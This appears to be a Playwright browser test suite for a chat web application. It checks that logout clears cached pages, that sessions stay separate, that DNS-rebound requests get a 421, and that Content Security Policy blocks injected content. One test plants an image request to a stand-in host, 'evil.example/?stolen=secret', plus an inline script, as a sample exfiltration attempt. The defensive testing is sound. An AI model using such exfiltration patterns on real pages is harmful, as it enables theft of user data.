/** What a browser keeps of a session: its cookie, and its cached pages. */
import assert from "node:assert/strict";
import { type Browser, chromium, type Page } from "playwright-core";
import { eventually } from "../support/eventually.ts";
import { startProgram } from "../support/program.ts";
import {
  complaintsOf,
  connected,
  enter,
  logOut,
  message,
  openBrowser,
  openWindow,
  PASSWORD,
  register,
  say,
} from "./browser.ts";

/** A Chromium with other flags than that of the other tests. */
async function launch(options: { without?: string[]; args?: string[] }): Promise<Browser & AsyncDisposable> {
  const { without = [], args = [] } = options;
  const browser = await chromium.launch({
    executablePath: Deno.env.get("CHROMIUM") ?? "/usr/bin/chromium",
    ignoreDefaultArgs: without,
    args: ["--no-sandbox", "--disable-dev-shm-usage", "--disable-background-networking", ...args],
  });
  return Object.assign(browser, { [Symbol.asyncDispose]: () => browser.close() });
}

/** The default of browsers: Playwright disables the back/forward cache. */
const openKeepingBrowser = () => launch({ without: ["--disable-back-forward-cache"] });

/** The visible text: a page that hides itself has none. */
async function seen(page: Page): Promise<string> {
  return await page.evaluate<string>("document.body?.checkVisibility() ? document.body.innerText : ''").catch(() => "");
}

/** Goes back, and polls until the login is there: meanwhile `secret` must never be visible. */
async function assertNeverShown(page: Page, secret: string): Promise<void> {
  await page.goBack({ waitUntil: "commit" }).catch(() => {});
  let polls = 0;
  await eventually(async () => {
    const text = await seen(page);
    assert(!text.includes(secret), `shown at ${page.url()}: ${text.slice(0, 300)}`);
    return ++polls >= 20 && text.includes("Log in");
  }, 15_000);
}

for (const [kind, open] of [["alone", openBrowser], ["and kept whole", openKeepingBrowser]] as const) {
  Deno.test(`after a logout the Back button shows nothing of the chat, its page in the cache ${kind}`, async () => {
    await using program = await startProgram();
    await using browser = await open();
    const page = await enter(browser, program, "alice");
    await say(page, "The vault is open");
    await message(page, "The vault is open").waitFor();
    await page.reload();
    await message(page, "The vault is open").waitFor();
    await logOut(page);
    await assertNeverShown(page, "The vault is open");
  });

  Deno.test(`after the session has ended the Back button shows nothing of the administration, its page in the cache ${kind}`, async () => {
    await using program = await startProgram();
    await using browser = await open();
    const page = await enter(browser, program, "alice");
    await say(page, "The vault is open");
    await message(page, "The vault is open").waitFor();
    for (const path of ["/admin/messages", "/admin/users"]) {
      await page.goto(program.url + path);
      assert.match(await seen(page), /alice/);
      // This page is still open when its session is logged out elsewhere.
      await page.goto(`${program.url}/static/nothing`);
      const { name, value } = (await page.context().cookies()).find(({ name }) => /_session_[0-9a-f]+$/.test(name))!;
      const headers = { Cookie: `${name}=${value}`, Origin: program.url };
      await (await fetch(`${program.url}/logout`, { method: "POST", headers })).body?.cancel();
      await assertNeverShown(page, "alice");
      await page.goto(`${program.url}/login`);
      await page.getByLabel("Username").fill("alice");
      await page.getByLabel("Password").fill(PASSWORD);
      await page.getByRole("button", { name: "Log in" }).click();
      await connected(page);
    }
  });
}

Deno.test("a page restored from the back/forward cache hides itself and reloads", async () => {
  await using program = await startProgram();
  await using browser = await openBrowser();
  const page = await enter(browser, program, "alice");
  for (const path of ["/", "/admin/audit", "/docs"]) {
    await page.goto(program.url + path);
    // Whether Chromium restores a page depends on its version; the page's reaction is ours.
    const fires = (name: string, persisted: boolean) =>
      page.evaluate(`dispatchEvent(new PageTransitionEvent("${name}", { persisted: ${persisted} }))`);
    await fires("pagehide", false);
    assert.notEqual(await seen(page), "", `${path}: one that was not restored stays as it is`);
    await fires("pagehide", true);
    assert.equal(await seen(page), "", path);
    const anew = page.waitForEvent("load");
    await fires("pageshow", true);
    await anew;
    assert.notEqual(await seen(page), "", path);
  }
  assert.deepEqual(complaintsOf(page), []);
});

Deno.test("two instances on one host, at two ports, keep their sessions apart", async () => {
  await using one = await startProgram();
  await using other = await startProgram();
  await using browser = await openBrowser();
  const first = await enter(browser, one, "alice");
  const second = await openWindow(first, `${other.url}/register`);
  await register(second, "bob");
  await connected(second);
  await first.reload();
  await connected(first);
  await say(first, "Still here");
  await message(first, "Still here").waitFor();
  await logOut(second);
  await first.reload();
  await connected(first);
});

Deno.test("a page under a rebound DNS name shows only the setting to change, and registers nobody", async () => {
  await using program = await startProgram();
  await using browser = await launch({ args: ["--host-resolver-rules=MAP *.example 127.0.0.1"] });
  const page = await browser.newPage();
  const origin = `http://evil.example:${program.port}`;
  await page.goto(origin);
  await page.getByText(`This server is not known as "evil.example:${program.port}": set PUBLIC_URL`).waitFor();
  const statuses = await page.evaluate<number[]>(`Promise.all([
    fetch("/register", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ username: "mallory", password: "correct horse" }),
    }),
    fetch("/healthz"),
  ].map(async (answer) => (await answer).status))`);
  assert.deepEqual(statuses, [421, 421]);
  const alice = await enter(browser, program, "alice");
  await alice.getByRole("link", { name: "Administration" }).first().waitFor();
});

Deno.test("policy violations in a browser are logged, without message text", async () => {
  await using program = await startProgram();
  await using browser = await openBrowser();
  const page = await enter(browser, program, "alice");
  await page.evaluate(`
    const image = document.createElement("img");
    image.src = "https://evil.example/?stolen=secret";
    const script = document.createElement("script");
    script.textContent = "alert('a secret')";
    document.body.append(image, script);
  `);
  const reports = await eventually(() => {
    const lines = program.stderr.split("\n").filter((line) => line.includes("blocked a resource"));
    return lines.length >= 2 ? lines.map((line) => JSON.parse(line)) : undefined;
  }, 15_000);
  const violations = reports.map(({ directive, blocked }) => `${directive} ${blocked}`).sort();
  assert.deepEqual(violations, ["img-src https://evil.example", "script-src-elem inline"]);
  assert.doesNotMatch(program.stderr, /secret/);
});
